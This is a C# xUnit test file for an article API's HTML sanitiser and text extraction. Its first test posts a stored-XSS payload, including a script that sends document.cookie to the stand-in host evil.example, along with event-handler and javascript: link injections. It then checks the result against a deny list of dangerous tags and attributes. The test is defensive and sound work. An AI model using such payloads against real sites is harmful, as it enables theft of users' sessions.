using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using ContentApi.Features.Articles;
using ContentApi.Tests.Infrastructure;

namespace ContentApi.Tests.Features.Articles;

public sealed class ArticleSanitisingTests(WriteApiFactory factory) : IClassFixture<WriteApiFactory>
{
    [Fact]
    public async Task StoredXssAttempt_ComesBackInert()
    {
        const string attack = """
            <p onclick="steal()">Hello <b>world</b><script>fetch('//evil.example/'+document.cookie)</script></p>
            <img src="x" onerror="alert(1)"><a href="javascript:alert(1)">click</a>
            <a href="https://example.org/ok" target="_blank">fine link</a>
            <style>body{display:none}</style><p style="position:fixed">styled</p>
            <iframe src="https://evil.example/frame"></iframe>
            <iframe src="https://www.youtube.com/embed/abc123" allowfullscreen></iframe>
            <svg><script>alert(2)</script></svg><form action="https://evil.example"><input name="p"></form>
            """;

        var created = await factory.CreateWriteClient().PostAsJsonAsync("/api/v1/articles", new { title = "XSS probe", bodyHtml = attack, status = "published" });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var article = await (await factory.CreateClient().GetAsync(created.Headers.Location)).ReadJsonAsync();

        var html = article.GetProperty("bodyHtml").GetString()!;
        foreach (var dangerous in new[] { "<script", "onclick", "onerror", "javascript:", "<style", "style=", "evil.example", "<form", "<input", "<svg" })
        {
            Assert.DoesNotContain(dangerous, html, StringComparison.OrdinalIgnoreCase);
        }
        Assert.Contains("<b>world</b>", html);
        Assert.Contains("<a href=\"https://example.org/ok\" target=\"_blank\" rel=\"noopener\">fine link</a>", html);
        Assert.Contains("<iframe src=\"https://www.youtube.com/embed/abc123\" allowfullscreen=\"\"></iframe>", html);
        Assert.DoesNotContain("steal", article.GetProperty("bodyText").GetString());
    }

    [Fact]
    public void FromHtml_OfTheSeedBody_GivesTheSameTextAsTheImporter()
    {
        var paragraphs = new[] { "American troops came under rocket fire.", "\"There are no (US) injuries,\" he said — calmly.", "Third one." };
        var imported = ArticleBody.FromParagraphs(paragraphs);

        var derived = ArticleBody.FromHtml(imported.Html);

        Assert.Equal(imported, derived);
    }

    [Fact]
    public void FromHtml_HeadingsListsAndBreaks_BecomeSeparateBlocks()
    {
        var body = ArticleBody.FromHtml("<h2>Title</h2><ul><li>one</li><li>two  words</li></ul><p>a<br>b</p>");

        Assert.Equal("Title\n\none\n\ntwo words\n\na\n\nb", body.Text);
        Assert.Equal(6, body.WordCount);
        Assert.Equal("Title", body.Excerpt);
    }

    [Fact]
    public async Task ArticleResponse_EscapesTitleAsJsonText()
    {
        var response = await factory.CreateWriteClient().PostAsJsonAsync("/api/v1/articles", new { title = "<b>Bold</b> title" });

        var article = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal("<b>Bold</b> title", article.GetProperty("title").GetString());
        Assert.Equal("b-bold-b-title", article.GetProperty("slug").GetString());
    }
}
